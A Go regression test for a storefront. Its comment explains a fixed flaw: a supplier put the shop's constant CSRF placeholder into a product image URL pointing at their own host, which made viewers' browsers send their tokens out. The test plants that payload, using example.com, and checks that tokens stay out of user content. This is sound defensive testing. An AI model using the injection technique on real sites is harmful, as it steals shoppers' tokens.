package web

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"storefront/models"
)

// TestAProductCannotHoldAViewersToken: a product page is one cached body
// for every viewer, rendered with a placeholder where each viewer's CSRF
// token goes. The placeholder was a constant anyone could read in the
// source, so a supplier who put it in a product's image address
// (https://their-host/p.jpg?t=~csrf-token-placeholder-7d1f~) had every
// viewer's browser send them that viewer's token. The placeholders are now
// drawn at random when the shop starts; what a supplier wrote is shown as
// written, to visitors and to signed-in shoppers.
func TestAProductCannotHoldAViewersToken(t *testing.T) {
	shop := mustOpenShop(t)
	ctx := context.Background()
	const planted = "~csrf-token-placeholder-7d1f~"
	const plantedName = "~shopper-name-placeholder-7d1f~"
	tent := shop.product("SKU-1")
	img := "https://example.com/p.jpg?t=" + planted + "&n=" + plantedName
	must(t, shop.db.W.Model(&models.Product{}).Where("id = ?", tent.ID).Updates(map[string]any{
		"image_url": img, "description": "Token " + planted + " name " + plantedName}).Error)
	must(t, shop.srv.shop.ProductsChanged(ctx, tent.ID))
	shopper, _ := loginAs(t, shop, "Zed Planted", "zed-planted@example.com")
	for who, c := range map[string]*client{"a visitor": shop.newClient(), "a shopper": shopper} {
		for range 2 { // the first view renders the body, the second is served from the cache
			res, doc := c.get(productPath(tent))
			if res.StatusCode != http.StatusOK {
				t.Fatalf("%s: %d", who, res.StatusCode)
			}
			token := csrf(doc)
			html, _ := doc.Html()
			if token == "" || strings.Count(html, token) != doc.Find(`input[name="_csrf"][value="`+token+`"]`).Length()+doc.Find(`meta[content="`+token+`"]`).Length() {
				t.Fatalf("%s's token is on the page outside its forms", who)
			}
			src := ""
			doc.Find("img").Each(func(_ int, s *goquery.Selection) {
				if v := s.AttrOr("src", ""); strings.HasPrefix(v, "https://example.com/") {
					src = v
				}
			})
			if src != img {
				t.Fatalf("%s: the product's image is %q, want %q as the supplier wrote it", who, src, img)
			}
			if want := "Token " + planted + " name " + plantedName; !strings.Contains(doc.Find("main").Text(), want) {
				t.Fatalf("%s: the description does not read %q as the supplier wrote it", who, want)
			}
		}
	}
}
